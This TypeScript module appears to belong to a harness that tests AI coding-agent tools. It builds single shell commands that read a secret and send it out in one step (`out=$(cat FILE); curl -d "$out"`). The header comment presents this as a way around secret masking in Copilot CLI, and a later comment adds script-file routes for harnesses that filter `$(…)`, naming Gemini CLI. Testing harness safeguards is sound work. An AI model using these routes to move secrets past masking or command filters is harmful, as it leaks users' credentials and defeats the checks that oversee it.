// `fused`: a step that sends a secret is run as one shell command that also obtains it, so the secret
// goes from the command that produced it to the send without passing through the model. A harness that
// masks or withholds a secret in what it shows the model (GitHub Copilot CLI prints a minted token as
// `******`) stops a model that must copy the value, not one that never needs to see it: `out=$(cat FILE);
// curl -d "$out" …`. The producers are the goal's earlier steps that print something (a read, a command,
// a GET, a service call); the send carries their whole output where the step carries the secret's value.
// The command runs as the shell call's text, then from a script file (as `direct`'s script route). A step
// that carries no secret, or has no earlier producer, or a harness without a shell: no form (the step
// runs as `direct`).
import type { ScriptContext } from '../../evidence/types.js';
import { mapStrings } from '../../json-strings.js';
import type { Action } from '../../spec/actions.js';
import type { ToolSpec } from '../conversation.js';
import { type Route, scriptRoutes } from '../routes.js';
import { unseenSecret } from '../secrets-seen.js';
import { runCall, type StrategyModule, stagedRoute, stepCommand } from './strategy.js';

/** The shell variable the producers' output is held in, and the same JSON-string-escaped. */
const VAR = 'out';
const JSON_VAR = 'outj';
/** Stands in for the secret while the step's command is built (no case text holds it). */
const MARK = 'HRFUSEDSECRET7f3a';
/** The output as the inside of a JSON string (quotes, backslashes, newlines escaped), by node. */
const JSON_ESCAPE = `${JSON_VAR}=$(printf '%s' "$${VAR}" | node -p 'JSON.stringify(require("fs").readFileSync(0,"utf8")).slice(1,-1)')`;

/** The texts that stand for a secret in a step: its value, or the placeholder of an unseen one. */
function secretForms(secrets: Record<string, string> | undefined): string[] {
  return Object.entries(secrets ?? {}).flatMap(([name, value]) => (value ? [value, unseenSecret(name)] : []));
}

/** Every string of `value` with each of `forms` replaced by `mark`. Pure. */
const marked = <T>(value: T, forms: string[], mark = MARK): T =>
  mapStrings(value, (s) => forms.reduce((t, f) => t.split(f).join(mark), s)) as T;

/**
 * For each place the mark takes in the step's command, whether it sits inside JSON the command carries
 * (an MCP call's arguments): the step built once more with a `"` after the mark shows it, since JSON
 * escapes that quote (`MARK\"`) and nothing else here does. Pure.
 */
function jsonPlaces(step: Action, forms: string[], ctx: ScriptContext): boolean[] | undefined {
  const probe = stepCommand(marked(step, forms, `${MARK}"`), ctx);
  if (probe === undefined) return undefined;
  return [...probe.matchAll(new RegExp(MARK, 'g'))].map((m) =>
    probe.startsWith('\\"', m.index! + MARK.length),
  );
}

/**
 * `command` with every `mark` replaced by a reference to a variable that the shell expands where the mark
 * stood: `"$name"` outside quotes, `'"$name"'` inside single quotes (close, expand, reopen), `$name` inside
 * double quotes; `name` is the variable's name, or gives it for the mark's n-th place. Undefined when the
 * mark is where a reference cannot go (after a backslash). Pure.
 */
export function spliceVariable(
  command: string,
  mark: string,
  name: string | ((place: number) => string),
): string | undefined {
  let out = '';
  let state: 'bare' | 'single' | 'double' = 'bare';
  let place = 0;
  for (let i = 0; i < command.length; ) {
    if (command.startsWith(mark, i)) {
      const v = typeof name === 'string' ? name : name(place++);
      out += state === 'bare' ? `"$${v}"` : state === 'single' ? `'"$${v}"'` : `$${v}`;
      i += mark.length;
      continue;
    }
    const c = command[i]!;
    if (c === '\\' && state !== 'single') {
      if (command.startsWith(mark, i + 1)) return undefined;
      out += command.slice(i, i + 2);
      i += 2;
      continue;
    }
    if (c === "'" && state !== 'double') state = state === 'single' ? 'bare' : 'single';
    else if (c === '"' && state !== 'single') state = state === 'double' ? 'bare' : 'double';
    out += c;
    i++;
  }
  return out;
}

/** Whether an earlier goal step prints what a later one may send (a read, a command, a GET, a call). */
const produces = (a: Action): boolean =>
  a.do === 'read' || a.do === 'run' || a.do === 'call' || (a.do === 'fetch' && (a.method ?? 'GET') === 'GET');

/** The fused command for `action`, or undefined when it carries no secret or nothing earlier produces one. */
export function fusedCommand(action: Action, earlier: Action[], ctx: ScriptContext): string | undefined {
  const forms = secretForms(ctx.secrets);
  const step = marked(action, forms);
  if (JSON.stringify(step) === JSON.stringify(action)) return undefined;
  // A producer that itself carries the secret needs it already: it cannot be what yields it.
  const producers = earlier
    .filter((a) => produces(a) && JSON.stringify(marked(a, forms)) === JSON.stringify(a))
    .map((a) => stepCommand(a, ctx))
    .filter((c): c is string => c !== undefined);
  const send = stepCommand(step, ctx);
  const json = jsonPlaces(action, forms, ctx);
  if (!producers.length || send === undefined || !send.includes(MARK) || !json) return undefined;
  // Inside JSON the output goes escaped (a key file's newlines and quotes would break the arguments).
  const spliced = spliceVariable(send, MARK, (n) => (json[n] ? JSON_VAR : VAR));
  if (spliced === undefined) return undefined;
  // stderr stays out: the send carries what the producers printed, as a pipe would.
  const produce = producers.length === 1 ? producers[0]! : `{ ${producers.join('; ')}; }`;
  return [`${VAR}=$(${produce} 2>/dev/null)`, ...(json.some(Boolean) ? [JSON_ESCAPE] : []), spliced].join(
    '; ',
  );
}

/** The call marked as sending a command's output where the step has a literal value (policy.ts effect). */
const sendingOutput =
  (make: Route['calls'][number]): Route['calls'][number] =>
  (previous) => {
    const call = make(previous);
    return call && { ...call, sendsOutput: true };
  };

function fusedRoutes(
  action: Action,
  tools: ToolSpec[],
  ctx: ScriptContext,
  _direct: Route[],
  earlier: Action[] = [],
): Route[] {
  const command = fusedCommand(action, earlier, ctx);
  if (command === undefined) return [];
  const carries = stepCommand(action, ctx) ?? command;
  const run = runCall(command, action, tools, ctx);
  const inShell = stagedRoute(`fused: ${run?.tool}`, [], run, carries);
  // The same command from a script file, for a harness that refuses `$(…)` in a command's text (Gemini
  // CLI) or filters what a command line says: the script's text is not the command line.
  const inScript = scriptRoutes(command, tools, ctx).map((r) => ({
    ...r,
    label: `fused: ${r.label}`,
    carries,
  }));
  return [...inShell, ...inScript].map((r) => ({
    ...r,
    calls: [...r.calls.slice(0, -1), sendingOutput(r.calls.at(-1)!)],
  }));
}

export const fused: StrategyModule = {
  doc: 'a step that sends a secret run as one shell command (or script file) with the goal\'s earlier steps that print it (`out=$(…); send "$out"`), so the value never passes through the model',
  routes: fusedRoutes,
};
